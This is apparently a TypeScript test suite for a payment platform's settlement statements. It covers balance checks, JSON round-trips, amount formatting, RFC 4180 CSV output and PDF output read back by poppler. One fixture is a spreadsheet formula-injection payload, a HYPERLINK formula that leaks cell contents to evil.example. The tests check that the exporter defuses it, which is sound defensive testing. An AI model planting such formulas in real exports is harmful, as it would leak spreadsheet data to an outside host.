/**
 * Settlement statements: the model's balance check, the CSV read back by an RFC 4180
 * reader, the PDF read back by a real PDF reader (poppler's `pdftotext`, `pdfinfo`, `pdffonts`).
 * Where poppler is missing the PDF tests skip and say why (.ci/run installs `poppler-utils`).
 */
import { assert, describe, it } from "@effect/vitest"
import { execFileSync } from "node:child_process"
import { mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { BigDecimal, DateTime, Effect, Result, Schema } from "effect"
import { csv, csvColumns } from "../../adapters/statements/CsvStatement.ts"
import { pdf } from "../../adapters/statements/PdfStatement.ts"
import * as Money from "../../core/Money.ts"
import { lineTotal } from "../../core/settlements/Lines.ts"
import {
  amountText,
  check,
  linesTotal,
  type Statement,
  StatementJson,
  StatementLine,
  StatementUnbalanced,
  upgradeStoredLine
} from "../../core/settlements/Statement.ts"

const d = Money.decimal
const at = (iso: string) => DateTime.makeUnsafe(iso) as DateTime.Utc

const popplerMissing = ["pdftotext", "pdfinfo", "pdffonts"].filter((tool) => {
  try {
    execFileSync("sh", ["-c", `command -v ${tool}`], { stdio: "ignore" })
    return false
  } catch {
    return true
  }
})
if (popplerMissing.length > 0) {
  console.log(`SKIP PDF statement tests: no ${popplerMissing.join(", ")} on PATH (install Debian's poppler-utils; .ci/run does)`)
}

/** A line; the columns not given are 0 but `otherUsd`, which takes what makes gross to net add up. */
const line = (fields: Partial<StatementLine> & Pick<StatementLine, "kind" | "reference" | "amountUsd">): StatementLine => {
  const l = {
    at: at("2026-11-02T14:03:22Z"),
    transactionId: null,
    merchantOrderId: null,
    method: null,
    amountLocal: null,
    currencyLocal: null,
    grossUsd: d("0"),
    feesUsd: d("0"),
    reserveUsd: d("0"),
    owedRecoveredUsd: d("0"),
    refundsUsd: d("0"),
    chargebacksUsd: d("0"),
    otherUsd: d("0"),
    ...fields
  }
  return fields.otherUsd === undefined ? { ...l, otherUsd: BigDecimal.subtract(l.amountUsd, lineTotal(l)) } : l
}

const hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"

/** A small batch: one line of every shape a finance team meets, and order ids made to break a CSV. */
const smallLines: ReadonlyArray<StatementLine> = [
  line({
    kind: "payment",
    transactionId: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VA",
    reference: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VA",
    merchantOrderId: "a,b",
    method: "pix",
    amountLocal: d("550"),
    currencyLocal: "BRL",
    grossUsd: d("100"),
    amountUsd: d("96.50"),
    feesUsd: d("3.50")
  }),
  line({
    kind: "payment",
    at: at("2026-11-03T09:00:00Z"),
    transactionId: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VB",
    reference: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VB",
    merchantOrderId: hyperlink,
    method: "webpay",
    amountLocal: d("15000"),
    currencyLocal: "CLP",
    grossUsd: d("16"),
    amountUsd: d("15.20"),
    feesUsd: d("0.80")
  }),
  line({
    kind: "payment",
    at: at("2026-11-03T10:00:00Z"),
    transactionId: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC",
    reference: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC",
    merchantOrderId: "say \"hi\"\nnext line",
    method: "oxxo",
    amountLocal: d("2000"),
    currencyLocal: "MXN",
    grossUsd: d("1000"),
    amountUsd: d("1000"),
    feesUsd: d("0")
  }),
  line({
    kind: "refund",
    at: at("2026-11-04T10:00:00Z"),
    transactionId: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VA",
    reference: "CLM-01JD8X3Y6QZ4M5N6P7R8S9T0VD",
    merchantOrderId: "-5+3",
    method: "pix",
    amountLocal: d("100"),
    currencyLocal: "BRL",
    refundsUsd: d("18.50"),
    amountUsd: d("-18.50")
  }),
  line({ kind: "reserve_held", reference: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC", reserveUsd: d("-100"), amountUsd: d("-100") }),
  line({ kind: "fee", reference: "jnl_01jd8x3y6qz4m5n6p7r8s9t0ve", feesUsd: d("0.05"), amountUsd: d("-0.05") })
]

const smallSummary = {
  gross: d("1116"),
  fees: { platform: d("0.05"), provider: d("4.30"), chargeback: d("0") },
  refunds: d("18.50"),
  chargebacks: d("0"),
  owedRecovered: d("0"),
  reserveHeld: d("100"),
  reserveReleased: d("0"),
  other: d("0"),
  net: d("993.15")
}

const statement = (lines: ReadonlyArray<StatementLine>, net: BigDecimal.BigDecimal): Statement => ({
  merchant: { id: "mer_01jd8x3y6qz4m5n6p7r8s9t0vf", name: "Café São João Ltda. <b>&amp;</b>" },
  shop: { id: "shop_01jd8x3y6qz4m5n6p7r8s9t0vg", name: "Loja Açaí (Niterói)" },
  batch: {
    id: "STL-01JD8X3Y6QZ4M5N6P7R8S9T0VH",
    periodStart: at("2026-11-01T00:00:00Z"),
    periodEnd: at("2026-11-08T00:00:00Z"),
    closedAt: at("2026-11-08T00:00:05Z"),
    status: "paid",
    destination: { kind: "usdc", chain: "ETH", address: "0x71C7656EC7ab88b098defB751B7401B5f6d8976F" },
    payoutReference: "0x9fc76417374aa880d4449a1f7f31ec597f00b1f6f3dd2d66f4c9c6c445836d8b"
  },
  summary: { ...smallSummary, net },
  lines
})

const small = statement(smallLines, d("993.15"))

/** 10,000 lines: payments of varied amounts in three currencies, every tenth a refund. */
const bigLines: ReadonlyArray<StatementLine> = Array.from({ length: 10_000 }, (_, i) => {
  const id = `TXN-01JD8X3Y6Q${String(i).padStart(16, "0")}`
  const currency = ["BRL", "MXN", "COP"][i % 3]!
  const refund = i % 10 === 9
  const net = d(`${refund ? "-" : ""}${(i % 89) + 1}.${String((i * 7) % 100).padStart(2, "0")}`)
  return line({
    kind: refund ? "refund" : "payment",
    at: DateTime.add(at("2026-11-01T00:00:00Z"), { seconds: i * 60 }) as DateTime.Utc,
    transactionId: id,
    reference: refund ? `CLM-01JD8X3Y6Q${String(i).padStart(16, "0")}` : id,
    merchantOrderId: `order-${i}`,
    method: currency === "BRL" ? "pix" : currency === "MXN" ? "spei" : "pse",
    amountLocal: d(`${(i % 997) + 1}.${String(i % 100).padStart(2, "0")}`),
    currencyLocal: currency,
    amountUsd: net,
    ...(refund ? { refundsUsd: BigDecimal.negate(net) } : { grossUsd: BigDecimal.sum(net, d("0.35")), feesUsd: d("0.35") })
  })
})
const big = statement(bigLines, linesTotal(bigLines))

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes, nothing else. */
const readCsv = (text: string): Array<Array<string>> => {
  const records: Array<Array<string>> = []
  let record: Array<string> = []
  let field = ""
  let i = 0
  while (i < text.length) {
    if (text[i] === "\"" && field === "") {
      i += 1
      for (;;) {
        if (i >= text.length) throw new Error("unterminated quoted field")
        if (text[i] === "\"") {
          if (text[i + 1] === "\"") {
            field += "\""
            i += 2
          } else {
            i += 1
            break
          }
        } else field += text[i++]
      }
      if (i < text.length && text[i] !== "," && text.slice(i, i + 2) !== "\r\n") throw new Error(`text after a closing quote at ${i}`)
    } else if (text[i] === ",") {
      record.push(field)
      field = ""
      i += 1
    } else if (text.slice(i, i + 2) === "\r\n") {
      record.push(field)
      records.push(record)
      record = []
      field = ""
      i += 2
    } else if (text[i] === "\n" || text[i] === "\r" || text[i] === "\"") {
      throw new Error(`bare ${JSON.stringify(text[i])} outside quotes at ${i}`)
    } else field += text[i++]
  }
  if (field !== "" || record.length > 0) {
    record.push(field)
    records.push(record)
  }
  return records
}

const withPdf = <A>(bytes: Uint8Array, use: (path: string) => A): A => {
  const dir = mkdtempSync(join(tmpdir(), "statement-"))
  try {
    const path = join(dir, "statement.pdf")
    writeFileSync(path, bytes)
    return use(path)
  } finally {
    rmSync(dir, { recursive: true, force: true })
  }
}
const run = (tool: string, args: ReadonlyArray<string>) =>
  execFileSync(tool, args, { encoding: "utf8", maxBuffer: 256 * 1024 * 1024 })

describe("Statement.check", () => {
  it("accepts a statement whose lines sum to its net", () => {
    assert.isTrue(Result.isSuccess(check(small)))
    assert.isTrue(Result.isSuccess(check(big)))
  })

  it("refuses a statement whose lines miss its net by a cent, and says by how much", () => {
    const result = check(statement(smallLines, d("993.16")))
    assert.isTrue(Result.isFailure(result))
    if (Result.isFailure(result)) {
      assert.instanceOf(result.failure, StatementUnbalanced)
      assert.strictEqual(result.failure.batchId, "STL-01JD8X3Y6QZ4M5N6P7R8S9T0VH")
      assert.strictEqual(Money.toText(result.failure.linesTotal), "993.15")
      assert.strictEqual(Money.toText(result.failure.difference), "-0.01")
    }
  })

  it("refuses a fraction of a cent rather than rounding it away", () => {
    const lines = [...smallLines, line({ kind: "adjustment", reference: "adj-1", amountUsd: d("0.004") })]
    assert.isTrue(Result.isFailure(check(statement(lines, d("993.15")))))
    assert.isTrue(Result.isFailure(check(statement(lines, d("993.154").pipe((n) => Money.round(n, "USD"))))))
  })

  it("sums 10,000 lines exactly, where floats drift", () => {
    const lines = Array.from({ length: 10_000 }, (_, i) => line({ kind: "payment", reference: `r${i}`, amountUsd: d("0.10") }))
    assert.isTrue(Result.isSuccess(check(statement(lines, d("1000")))))
    assert.notStrictEqual(lines.reduce((sum) => sum + 0.1, 0), 1000)
  })
})

describe("StatementJson", () => {
  it.effect("keeps a statement as JSON and gives back the same amounts, times and lines", () =>
    Effect.gen(function*() {
      const json = yield* Schema.encodeEffect(StatementJson)(small)
      const text = JSON.stringify(json)
      const back = yield* Schema.decodeUnknownEffect(StatementJson)(JSON.parse(text))
      assert.strictEqual(back.lines.length, smallLines.length)
      assert.strictEqual(Money.toText(back.summary.net), "993.15")
      assert.strictEqual(Money.toText(back.lines[3]!.amountUsd), "-18.5")
      assert.strictEqual(DateTime.formatIso(back.batch.closedAt), "2026-11-08T00:00:05.000Z")
      assert.deepStrictEqual(back.batch.destination, small.batch.destination)
      assert.isTrue(Result.isSuccess(check(back)))
      assert.strictEqual(csv(back), csv(small))
    }))
})

describe("a line stored before the breakdown", () => {
  it("reads with its net as other and 0 elsewhere, so gross to net still adds up", () => {
    const legacy = {
      at: "2026-11-02T14:03:22.000Z", kind: "payment", transactionId: "TXN-1", reference: "TXN-1", merchantOrderId: null, method: "pix",
      amountLocal: "550", currencyLocal: "BRL", amountUsd: "96.5", feesUsd: "3.5"
    }
    const line = Schema.decodeUnknownSync(Schema.toCodecJson(StatementLine))(upgradeStoredLine(legacy))
    assert.strictEqual(Money.toText(line.otherUsd), "96.5")
    assert.strictEqual(Money.toText(line.feesUsd), "0")
    assert.strictEqual(Money.toText(lineTotal(line)), Money.toText(line.amountUsd))
    const current = Schema.encodeSync(Schema.toCodecJson(StatementLine))(line)
    assert.deepStrictEqual(upgradeStoredLine(current), current, "a current line is read as stored")
  })
})

describe("amountText", () => {
  it("writes the currency's decimals, half to even, no exponent and no negative zero", () => {
    assert.strictEqual(amountText(d("50"), "USD"), "50.00")
    assert.strictEqual(amountText(d("-3.5"), "USD"), "-3.50")
    assert.strictEqual(amountText(d("0.125"), "USD"), "0.12")
    assert.strictEqual(amountText(d("0.135"), "USD"), "0.14")
    assert.strictEqual(amountText(d("-0.001"), "USD"), "0.00")
    assert.strictEqual(amountText(d("15000"), "CLP"), "15000")
    assert.strictEqual(amountText(d("1.5"), "KWD"), "1.500")
    assert.strictEqual(amountText(d("1000000000000"), "USD"), "1000000000000.00")
  })
})

describe("CSV statement", () => {
  it("starts with a UTF-8 BOM, then the header row, one CRLF record per line", () => {
    const text = csv(small)
    assert.strictEqual(text.charCodeAt(0), 0xfeff)
    const records = readCsv(text.slice(1))
    assert.deepStrictEqual(records[0], [...csvColumns])
    assert.strictEqual(records.length, 1 + smallLines.length)
    for (const record of records) assert.strictEqual(record.length, csvColumns.length)
  })

  it("gives back every line: ISO 8601 UTC times, amounts with the currency's decimals", () => {
    const [, ...rows] = readCsv(csv(small).slice(1))
    assert.deepStrictEqual(rows[0], [
      "STL-01JD8X3Y6QZ4M5N6P7R8S9T0VH",
      "2026-11-02T14:03:22.000Z",
      "payment",
      "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VA",
      "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VA",
      "a,b",
      "pix",
      "550.00",
      "BRL",
      "100.00",
      "3.50",
      "0.00",
      "0.00",
      "0.00",
      "0.00",
      "0.00",
      "96.50",
      ""
    ])
    assert.deepStrictEqual(rows[1]!.slice(7), ["15000", "CLP", "16.00", "0.80", "0.00", "0.00", "0.00", "0.00", "0.00", "15.20", ""])
    assert.deepStrictEqual(rows[3]!.slice(9), ["0.00", "0.00", "0.00", "0.00", "18.50", "0.00", "0.00", "-18.50", ""])
    assert.deepStrictEqual(rows[4]!.slice(2, 17), ["reserve_held", "", "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC", "", "", "", "", "0.00", "0.00", "-100.00", "0.00", "0.00", "0.00", "0.00", "-100.00"])
  })

  it("a card payment paid in instalments writes its count in `installments`; other lines leave it blank", () => {
    const card = line({
      kind: "payment",
      transactionId: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VZ",
      reference: "TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VZ",
      method: "card",
      amountLocal: d("300"),
      currencyLocal: "BRL",
      installments: 3,
      grossUsd: d("60"),
      amountUsd: d("57"),
      feesUsd: d("3")
    })
    const [header, first, second] = readCsv(csv(statement([card, smallLines[0]!], d("153.50"))).slice(1))
    const column = header!.indexOf("installments")
    assert.strictEqual(column, header!.length - 1, "appended after net_usd: earlier columns keep their positions")
    assert.deepStrictEqual([first![column], second![column]], ["3", ""])
  })

  it("goes from gross to net on every row, and each column sums to the summary's figure", () => {
    const [header, ...rows] = readCsv(csv(small).slice(1))
    const cell = (row: ReadonlyArray<string>, column: typeof csvColumns[number]) => d(row[header!.indexOf(column)]!)
    const sum = (column: typeof csvColumns[number]) => Money.toText(BigDecimal.sumAll(rows.map((r) => cell(r, column))))
    for (const row of rows) {
      const gross = BigDecimal.sumAll([
        cell(row, "gross_usd"),
        BigDecimal.negate(cell(row, "fees_usd")),
        cell(row, "reserve_usd"),
        BigDecimal.negate(cell(row, "owed_recovered_usd")),
        BigDecimal.negate(cell(row, "refunds_usd")),
        BigDecimal.negate(cell(row, "chargebacks_usd")),
        cell(row, "other_usd")
      ])
      assert.strictEqual(Money.toText(gross), Money.toText(cell(row, "net_usd")), row[4])
    }
    assert.deepStrictEqual(
      [sum("gross_usd"), sum("fees_usd"), sum("reserve_usd"), sum("refunds_usd"), sum("net_usd")],
      ["1116", "4.35", "-100", "18.5", "993.15"]
    )
  })

  it("quotes a comma, a quote and a line break as RFC 4180 says", () => {
    const text = csv(small)
    assert.include(text, ",\"a,b\",")
    assert.include(text, ",\"say \"\"hi\"\"\nnext line\",")
    const [, ...rows] = readCsv(text.slice(1))
    assert.strictEqual(rows[0]![5], "a,b")
    assert.strictEqual(rows[2]![5], "say \"hi\"\nnext line")
  })

  it("guards text cells against formulas with a leading quote, and leaves amounts alone", () => {
    const [, ...rows] = readCsv(csv(small).slice(1))
    assert.strictEqual(rows[1]![5], `'${hyperlink}`)
    assert.strictEqual(rows[3]![5], "'-5+3")
    assert.strictEqual(rows[3]![csvColumns.indexOf("net_usd")], "-18.50")
    assert.strictEqual(rows[5]![csvColumns.indexOf("net_usd")], "-0.05")
  })

  it("writes 10,000 lines whose amounts sum back to the net", () => {
    const [header, ...rows] = readCsv(csv(big).slice(1))
    assert.deepStrictEqual(header, [...csvColumns])
    assert.strictEqual(rows.length, 10_000)
    let total = Money.zero
    rows.forEach((row, i) => {
      assert.strictEqual(row[3], bigLines[i]!.transactionId)
      total = BigDecimal.sum(total, d(row[csvColumns.indexOf("net_usd")]!))
    })
    assert.strictEqual(Money.toText(total), Money.toText(big.summary.net))
  })
})

describe.skipIf(popplerMissing.length > 0)("PDF statement, read by poppler", () => {
  it.effect("one A4 page: header, summary, every line, page 1 of 1, Helvetica not embedded", () =>
    Effect.gen(function*() {
      const bytes = yield* pdf(small)
      assert.strictEqual(new TextDecoder().decode(bytes.slice(0, 5)), "%PDF-")
      withPdf(bytes, (path) => {
        const info = run("pdfinfo", [path])
        assert.match(info, /^Pages:\s+1$/m)
        assert.match(info, /^Page size:\s+841\.89 x 595\.28 pts \(A4\)/m)
        assert.match(info, /^Title:\s+Settlement statement STL-01JD8X3Y6QZ4M5N6P7R8S9T0VH$/m)
        const fonts = run("pdffonts", [path]).split("\n").slice(2).filter((l) => l.trim() !== "")
        assert.isAbove(fonts.length, 0)
        for (const font of fonts) {
          assert.match(font, /^Helvetica(-Bold)?\s/)
          assert.match(font, /\bno\s+no\s+no\s+\d+\s+\d+\s*$/, `embedded font: ${font}`)
        }
        const text = run("pdftotext", ["-layout", "-enc", "UTF-8", path, "-"])
        for (const expected of [
          "Settlement statement",
          "Café São João Ltda. <b>&amp;</b> (mer_01jd8x3y6qz4m5n6p7r8s9t0vf)",
          "Loja Açaí (Niterói) (shop_01jd8x3y6qz4m5n6p7r8s9t0vg)",
          "STL-01JD8X3Y6QZ4M5N6P7R8S9T0VH, paid",
          "2026-11-01 00:00:00 to 2026-11-08 00:00:00",
          "USDC on ETH, address 0x71C7656EC7ab88b098defB751B7401B5f6d8976F",
          "0x9fc76417374aa880d4449a1f7f31ec597f00b1f6f3dd2d66f4c9c6c445836d8b",
          "1,116.00",
          "993.15",
          "-18.50",
          "15,000 CLP",
          "550.00 BRL",
          "a,b",
          "page 1 of 1"
        ]) assert.include(text, expected)
        assert.match(text, /Net paid out\s+993\.15/)
        assert.match(text, /Gross payments\s+1,116\.00/)
        // A row reads from gross to net, signed as each amount moved the net.
        assert.match(text, /TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VA\s+a,b\s+pix\s+550\.00 BRL\s+100\.00\s+-3\.50\s+96\.50/)
        assert.match(text, /Reserve held\s+TXN-01JD8X3Y6QZ4M5N6P7R8S9T0VC\s+-100\.00\s+-100\.00/)
        for (const l of smallLines) if (l.transactionId !== null) assert.include(text, l.transactionId)
        // The formula is drawn as the text it is, and made no link.
        const raw = run("pdftotext", ["-raw", "-enc", "UTF-8", path, "-"])
        assert.include(raw.replace(/\s+/g, ""), hyperlink.replace(/\s+/g, ""))
        assert.notInclude(new TextDecoder("latin1").decode(bytes), "/Annots")
      })
    }))

  it.effect("the same statement gives the same bytes (dated by the batch's close, not the render)", () =>
    Effect.gen(function*() {
      const first = yield* pdf(small)
      yield* Effect.promise(() => new Promise((resolve) => setTimeout(resolve, 5)))
      const second = yield* pdf(small)
      assert.deepStrictEqual(second, first)
      withPdf(first, (path) => assert.match(run("pdfinfo", ["-isodates", path]), /^CreationDate:\s+2026-11-08T00:00:05/m))
    }))

  it.effect("draws characters Helvetica lacks as their bare letter or ?, never as garbage", () =>
    Effect.gen(function*() {
      const named = { ...small, merchant: { id: "mer_x", name: "Łódź Kraków 東京 ő\ttab" } } // ó is in WinAnsi, Ł and ő are not
      const bytes = yield* pdf(named)
      withPdf(bytes, (path) => {
        const text = run("pdftotext", ["-layout", "-enc", "UTF-8", path, "-"])
        assert.include(text, "?ódz Kraków ?? o tab (mer_x)")
      })
    }))

  it.effect("an empty batch: one page with the summary, the column headers and 0 lines; its CSV is the header row", () =>
    Effect.gen(function*() {
      const empty = statement([], d("0"))
      assert.isTrue(Result.isSuccess(check(empty)))
      assert.deepStrictEqual(readCsv(csv(empty).slice(1)), [[...csvColumns]])
      withPdf(yield* pdf(empty), (path) => {
        assert.match(run("pdfinfo", [path]), /^Pages:\s+1$/m)
        const text = run("pdftotext", ["-layout", "-enc", "UTF-8", path, "-"])
        assert.match(text, /Net paid out\s+0\.00/)
        assert.include(text, "0 lines")
        assert.include(text, "Merchant order id")
        assert.include(text, "page 1 of 1")
      })
    }))

  it.effect("a very long merchant name cannot push the table off the first page", () =>
    Effect.gen(function*() {
      const long = { ...small, merchant: { id: "mer_long", name: "Very Long Name ".repeat(1500) } }
      withPdf(yield* pdf(long), (path) => {
        assert.match(run("pdfinfo", [path]), /^Pages:\s+1$/m)
        const text = run("pdftotext", ["-layout", "-enc", "UTF-8", path, "-"])
        for (const l of smallLines) if (l.transactionId !== null) assert.include(text, l.transactionId)
        assert.include(text, "page 1 of 1")
      })
    }))

  it.effect("10,000 lines: many pages, column headers on each, every transaction id, page n of N", () =>
    Effect.gen(function*() {
      const started = performance.now()
      const bytes = yield* pdf(big)
      const seconds = (performance.now() - started) / 1000
      console.log(`10,000-line statement: ${seconds.toFixed(2)} s, ${bytes.length} bytes`)
      assert.isBelow(seconds, 30)
      assert.isBelow(bytes.length, 10 * 1024 * 1024)
      withPdf(bytes, (path) => {
        const pages = Number(/^Pages:\s+(\d+)$/m.exec(run("pdfinfo", [path]))?.[1])
        assert.isAbove(pages, 1)
        const text = run("pdftotext", ["-layout", "-enc", "UTF-8", path, "-"])
        const pageTexts = text.split("\f").filter((p) => p.trim() !== "")
        assert.strictEqual(pageTexts.length, pages)
        pageTexts.forEach((pageText, n) => {
          assert.include(pageText, `page ${n + 1} of ${pages}`)
          assert.match(pageText, /Date \(UTC\)\s+Kind\s+Transaction \/ reference\s+Merchant order id\s+Method\s+Local amount\s+Gross\s+Fees\s+Reserve\s+Owed repaid\s+Refunds\s+Chargebacks\s+Other\s+Net USD/)
        })
        const found = new Set(text.match(/TXN-01JD8X3Y6Q\d{16}/g) ?? [])
        for (const l of bigLines) assert.isTrue(found.has(l.transactionId!), `missing ${l.transactionId}`)
        const net = amountText(big.summary.net, "USD").replace(/\B(?=(\d{3})+(?!\d))/g, ",")
        assert.match(text, new RegExp(`Net paid out\\s+${net.replace(/\./g, "\\.")}`))
        assert.include(text, "10,000 lines")
      })
    }), 120_000)
})
